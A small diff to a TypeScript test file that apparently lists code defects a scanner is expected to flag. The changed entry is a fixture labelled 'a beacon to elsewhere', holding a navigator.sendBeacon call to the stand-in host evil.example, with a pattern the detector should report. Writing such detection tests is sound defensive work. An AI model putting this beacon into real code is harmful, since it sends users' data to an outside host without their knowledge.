@@ -217,7 +217,7 @@ const DEFECTS: readonly [what: string, files: Readonly<Record<string, string | n
   ],
   [
     'a beacon to elsewhere',
-    { 'more.js': 'navigator.sendBeacon(`//evil.example/${1}`,"")' },
+    { 'more.js': `navigator.sendBeacon(\`//evil.example/\${1}\`,"")` },
     {},
     /reaches for \/\/evil\.example/,
   ],
